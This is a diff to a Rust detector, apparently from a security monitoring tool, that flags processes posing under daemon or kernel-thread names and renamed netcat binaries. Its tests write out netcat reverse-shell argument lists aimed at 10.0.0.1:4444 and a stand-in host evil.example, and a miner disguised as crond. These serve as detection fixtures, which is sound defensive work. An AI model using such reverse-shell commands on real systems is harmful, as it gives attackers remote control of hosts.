@@ -1,7 +1,8 @@
 //! argv[0] pretending to be another program: a bracketed kernel-thread name (`[kworker/0:1]`,
 //! kernel threads are never exec'd), or a system daemon name over a different executable.
 //! Symlink aliases (nc -> nc.openbsd, sh -> dash) are not masquerading: only daemon names
-//! count, and a name that prefixes the other is an alias.
+//! count, and a name that prefixes the other, a known alias ([`ALIASES`]) or any name run by
+//! a multi-call binary (busybox) is the program's own.
 
 use super::{basename, Ctx, Findings};
 use crate::knowledge::signals;
@@ -27,6 +28,50 @@ const DAEMONS: &[&str] = &[
     "kubelet",
 ];
 
+/// Link names of programs whose executable has another name: argv[0] is the name the link
+/// was run by, the exe the file it points to. Names that prefix their target (vi -> vim,
+/// python3 -> python3.12, sshd -> sshd-session) need no entry. Only [`DAEMONS`] are checked
+/// against it today; the common non-daemon links are listed so a new name finds them here.
+const ALIASES: &[(&str, &[&str])] = &[
+    // systemd installs /sbin/init as a link to itself (every boot and daemon-reexec).
+    ("init", &["systemd"]),
+    // MariaDB 10.5+ renamed its server mariadbd and ships mysqld as a link to it.
+    ("mysqld", &["mariadbd"]),
+    // /bin/sh is dash on Debian and Ubuntu, bash elsewhere.
+    ("sh", &["dash", "bash"]),
+    // The awk alternative is gawk, mawk or the one true awk.
+    ("awk", &["gawk", "mawk", "original-awk"]),
+];
+
+/// Multi-call binaries run the applet argv[0] names (busybox's `crond`, `init`, `sh`):
+/// any argv[0] is legitimate for them.
+fn multi_call(exe: &str) -> bool {
+    matches!(exe, "busybox" | "toybox")
+}
+
+/// Whether `name` (argv[0]) is a name the executable `exe` is installed under.
+fn is_alias(name: &str, exe: &str) -> bool {
+    exe.starts_with(name)
+        || name.starts_with(exe)
+        || multi_call(exe)
+        || ALIASES
+            .iter()
+            .any(|(link, targets)| *link == name && targets.contains(&exe))
+}
+
+/// netcat's exec shape, `-e SHELL HOST PORT` (or `HOST PORT -e SHELL`): su(1) `-c COMMAND`
+/// and xterm(1) `-e PROGRAM` also take a shell, but no host and port with it.
+fn netcat_exec_shape(a: &[String]) -> bool {
+    let runs_shell = |o: &str, p: &str| (o == "-e" || o == "-c") && super::is_shell(basename(p));
+    let host_port = |h: &str, p: &str| {
+        !h.is_empty() && !h.starts_with('-') && p.parse::<u16>().is_ok_and(|p| p > 0)
+    };
+    a.windows(4).any(|w| {
+        (runs_shell(&w[0], &w[1]) && host_port(&w[2], &w[3]))
+            || (host_port(&w[0], &w[1]) && runs_shell(&w[2], &w[3]))
+    })
+}
+
 /// Always: every exec has an argv[0] to compare with its executable.
 pub use super::always as wants;
 
@@ -50,16 +95,12 @@ pub fn detect(cx: &Ctx, out: &mut Findings) {
         return;
     }
     // A non-netcat name used with netcat's exec shape: `httpd -e /bin/sh HOST PORT`.
-    let a = &cx.facts.argv[1..];
-    let nc_shape = a
-        .windows(2)
-        .any(|w| (w[0] == "-e" || w[0] == "-c") && super::is_shell(basename(&w[1])));
-    if nc_shape
+    if netcat_exec_shape(&cx.facts.argv[1..])
         && super::class_of(shown) != Some(crate::knowledge::ToolClass::Netcat)
         && super::class_of(exe) != Some(crate::knowledge::ToolClass::Netcat)
         && !super::is_shell(shown)
-        && shown != "busybox"
-        && exe != "busybox"
+        && !multi_call(shown)
+        && !multi_call(exe)
     {
         out.hit(
             signals::RENAMED_UTILITY,
@@ -70,7 +111,7 @@ pub fn detect(cx: &Ctx, out: &mut Findings) {
         );
     }
     let head = shown.split([':', ' ']).next().unwrap_or(shown);
-    if DAEMONS.contains(&head) && !exe.starts_with(head) && !head.starts_with(exe) {
+    if DAEMONS.contains(&head) && !is_alias(head, exe) {
         out.hit(
             signals::ARGV0_MASQUERADE,
             format!(
@@ -174,5 +215,44 @@ mod tests {
         assert!(with_exe(&["sh", "-c", "bash"], "/usr/bin/dash").is_empty());
         // -e with something other than a shell.
         assert!(with_exe(&["httpd", "-e", "info"], "/usr/sbin/httpd").is_empty());
+    }
+
+    #[test]
+    fn quiet_on_links_and_multi_call_binaries() {
+        // systemd's /sbin/init link, Alpine's busybox crond, MariaDB's mysqld link.
+        assert!(with_exe(&["/sbin/init"], "/usr/lib/systemd/systemd").is_empty());
+        assert!(with_exe(&["crond", "-f", "-l", "2"], "/bin/busybox").is_empty());
+        assert!(with_exe(&["init"], "/bin/toybox").is_empty());
+        assert!(with_exe(&["mysqld"], "/usr/sbin/mariadbd").is_empty());
+        // The same names over any other file still pose.
+        assert_eq!(
+            with_exe(&["/sbin/init"], "/usr/bin/dash"),
+            ["argv0_masquerade"]
+        );
+        assert_eq!(
+            with_exe(&["crond", "-f"], "/usr/local/bin/xmrig"),
+            ["argv0_masquerade"]
+        );
+        assert_eq!(with_exe(&["mysqld"], "/tmp/systemd"), ["argv0_masquerade"]);
+    }
+
+    #[test]
+    fn a_shell_option_without_host_and_port_is_not_netcats() {
+        // su(1) -c COMMAND, xterm(1) -e PROGRAM.
+        assert!(with_exe(&["su", "-c", "bash"], "/usr/bin/su").is_empty());
+        assert!(with_exe(&["xterm", "-e", "bash"], "/usr/bin/xterm").is_empty());
+        assert!(with_exe(&["su", "-c", "/bin/sh", "postgres"], "/usr/bin/su").is_empty());
+        // A renamed netcat, with the host and port before or after its -e.
+        assert_eq!(
+            with_exe(
+                &["xterm", "-e", "/bin/bash", "10.0.0.1", "4444"],
+                "/tmp/xterm"
+            ),
+            ["renamed_utility"]
+        );
+        assert_eq!(
+            with_exe(&["httpd", "evil.example", "443", "-e", "sh"], "/tmp/httpd"),
+            ["renamed_utility"]
+        );
     }
 }
